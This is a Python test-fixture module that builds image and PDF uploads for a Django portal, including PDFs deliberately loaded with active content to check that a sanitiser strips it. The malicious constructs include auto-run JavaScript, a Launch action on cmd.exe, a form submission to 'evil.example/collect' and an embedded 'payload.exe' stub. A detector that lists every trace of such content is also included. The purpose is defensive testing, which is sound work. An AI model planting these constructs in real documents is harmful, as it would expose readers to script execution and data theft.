"""Real files for upload tests: images of several types and sizes, PDFs good and bad."""

import io
import random

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image


def image_bytes(
    fmt="JPEG", size=(800, 600), *, noise=False, mode="RGB", color=(200, 60, 60), **save
):
    image = Image.new(mode, size, color if mode == "RGB" else (*color, 0))
    if noise:
        # Random pixels do not compress: a large, realistic phone photo.
        rng = random.Random(42)
        image = Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    if fmt == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    image.save(buffer, fmt, **save)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg(name="scan.jpg", **kwargs):
    return upload(name, image_bytes("JPEG", **kwargs), "image/jpeg")


def png(name="photo.png", **kwargs):
    return upload(name, image_bytes("PNG", **kwargs), "image/png")


def heic(name="IMG_0001.HEIC", **kwargs):
    return upload(name, image_bytes("HEIF", **kwargs), "image/heic")


def pdf_bytes(pages=1, text="职称申报材料", *, encrypt=False) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": text})
    if encrypt:
        writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf(name="materials.pdf", **kwargs):
    return upload(name, pdf_bytes(**kwargs), "application/pdf")


# --- PDFs with active content -------------------------------------------------------------

# Each kind of active content a PDF can carry, built with pikepdf into an otherwise plain
# one-page document (a blue rectangle, an internal link to page 2 and a bookmark).
ACTIVE_PDF_KINDS = (
    "document_javascript",
    "open_action",
    "catalog_additional_actions",
    "page_additional_actions",
    "annotation_javascript",
    "annotation_additional_actions",
    "launch_action",
    "uri_action",
    "action_chain",
    "embedded_file",
    "file_attachment_annotation",
    "submit_form",
    "import_data",
    "reset_form",
    "field_additional_actions",
    "xfa_form",
    "rendition",
)

PAGE_CONTENT = b"0 0 1 rg 72 600 200 100 re f"


def _active_pdf(kinds: tuple[str, ...]):
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0].obj
    page.Contents = pdf.make_stream(PAGE_CONTENT)
    second = pdf.pages[1].obj
    root = pdf.Root

    def javascript(code="app.alert('pwned')"):
        return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))

    def link(action=None, **extra):
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 500, 272, 520]), **extra
        )
        if action is not None:
            annotation.A = action
        return annotation

    def embedded_spec(name="payload.exe"):
        stream = pdf.make_stream(b"MZ\x90\x00 not a real program")
        stream.Type = Name.EmbeddedFile
        return Dictionary(
            Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)
        )

    # Plain navigation that must survive: a link to page 2 and a bookmark.
    go_to = Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))
    annotations = [pdf.make_indirect(link(go_to))]
    root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    bookmark = pdf.make_indirect(
        Dictionary(Title=String("第二页"), Parent=root.Outlines, A=Dictionary(go_to))
    )
    root.Outlines.First = root.Outlines.Last = bookmark

    fields, form_extra = [], {}

    def form(*new_fields, **extra):
        fields.extend(new_fields)
        form_extra.update(extra)

    def widget(field_type=Name.Btn, **extra):
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=field_type,
                T=String("field"),
                Rect=Array([72, 400, 272, 430]),
                P=page,
                **extra,
            )
        )

    for kind in kinds:
        _add(kind, pdf, page, second, javascript, link, embedded_spec, annotations, form, widget)
    if fields:
        root.AcroForm = Dictionary(Fields=Array(fields), **form_extra)
        annotations.extend(fields)
    page.Annots = Array(annotations)
    return pdf


def _add(kind, pdf, page, second, javascript, link, embedded_spec, annotations, form, widget):
    from pikepdf import Array, Dictionary, Name, String

    root = pdf.Root
    if kind == "document_javascript":
        if "/Names" not in root:
            root.Names = Dictionary()
        root.Names.JavaScript = Dictionary(Names=Array([String("init"), javascript()]))
    elif kind == "open_action":
        root.OpenAction = javascript()
    elif kind == "catalog_additional_actions":
        root.AA = Dictionary(WC=javascript(), WP=javascript())
    elif kind == "page_additional_actions":
        page.AA = Dictionary(O=javascript(), C=javascript())
    elif kind == "annotation_javascript":
        annotations.append(link(javascript()))
    elif kind == "annotation_additional_actions":
        annotations.append(link(AA=Dictionary(E=javascript(), D=javascript())))
    elif kind == "launch_action":
        annotations.append(
            link(
                Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
            )
        )
    elif kind == "uri_action":
        annotations.append(link(Dictionary(S=Name.URI, URI=String("https://evil.example/"))))
    elif kind == "action_chain":
        # A harmless link whose /Next runs a script.
        annotations.append(
            link(Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]), Next=javascript()))
        )
    elif kind == "embedded_file":
        from pikepdf import AttachedFileSpec

        pdf.attachments["payload.exe"] = AttachedFileSpec(pdf, b"MZ\x90\x00 program")
    elif kind == "file_attachment_annotation":
        annotations.append(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([300, 500, 320, 520]),
                FS=embedded_spec(),
            )
        )
    elif kind == "submit_form":
        submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
        form(widget(A=submit, Ff=65536))
    elif kind == "import_data":
        form(widget(A=Dictionary(S=Name.ImportData, F=String("data.fdf")), Ff=65536))
    elif kind == "reset_form":
        form(widget(A=Dictionary(S=Name.ResetForm), Ff=65536))
    elif kind == "field_additional_actions":
        form(
            widget(
                Name.Tx,
                AA=Dictionary(K=javascript(), F=javascript(), V=javascript(), C=javascript()),
            )
        )
    elif kind == "xfa_form":
        xfa = pdf.make_stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
            b'<script contentType="application/x-javascript">app.alert(1)</script>'
            b"</template></xdp:xdp>"
        )
        form(widget(Name.Tx), XFA=xfa)
    elif kind == "rendition":
        annotations.append(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=Array([300, 300, 400, 400]),
                A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(1)")),
            )
        )
    else:
        raise ValueError(kind)


def active_pdf_bytes(*kinds: str, encryption=None) -> bytes:
    """A two-page PDF carrying each of ``kinds`` (see ACTIVE_PDF_KINDS)."""
    buffer = io.BytesIO()
    _active_pdf(kinds).save(buffer, encryption=encryption)
    return buffer.getvalue()


def active_content(data: bytes) -> set[str]:
    """Every trace of active content in a PDF, read with pypdf (not the library that cleaned
    it): keys that trigger or carry scripts and files, carrier annotations, and the type of
    every action (in /A, /Next, /OpenAction or /AA) other than going to a page."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    seen: set[tuple[int, bool]] = set()
    stack = [(reader.trailer, False)]
    while stack:
        obj, in_action_slot = stack.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, in_action_slot) in seen:
                continue
            seen.add((obj.idnum, in_action_slot))
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            keys = ("/AA", "/OpenAction", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA")
            found.update(key for key in keys if key in obj)
            if obj.get("/Type") == "/EmbeddedFile":
                found.add("/EmbeddedFile")
            if obj.get("/Subtype") in ("/FileAttachment", "/Screen", "/Movie", "/Sound"):
                found.add(str(obj["/Subtype"]))
            if in_action_slot and obj.get("/S") not in (None, "/GoTo"):
                found.add(str(obj["/S"]))
            for key, value in obj.items():
                if key == "/AA" and isinstance(value.get_object(), DictionaryObject):
                    stack.extend((event, True) for event in value.get_object().values())
                else:
                    stack.append((value, key in ("/A", "/Next", "/OpenAction")))
        elif isinstance(obj, ArrayObject):
            stack.extend((item, in_action_slot) for item in obj)
    return found


def pdf_pages(data: bytes) -> list[bytes]:
    """The (decoded) content stream of each page, read with pypdf."""
    from pypdf import PdfReader

    pages = PdfReader(io.BytesIO(data)).pages
    return [
        page["/Contents"].get_object().get_data() if "/Contents" in page else b"" for page in pages
    ]


def limit_uploads(settings, *, hour: int, day: int) -> None:
    """Set the upload limits as UPLOAD_LIMIT_PER_HOUR / _PER_DAY do in titleportal.settings."""
    settings.UPLOAD_LIMIT_PER_HOUR, settings.UPLOAD_LIMIT_PER_DAY = hour, day
    settings.ACCOUNT_RATE_LIMITS = {
        **settings.ACCOUNT_RATE_LIMITS,
        "upload": f"{hour}/h/user,{day}/d/user",
        "upload_anonymous": f"{hour}/h/ip,{day}/d/ip",
    }
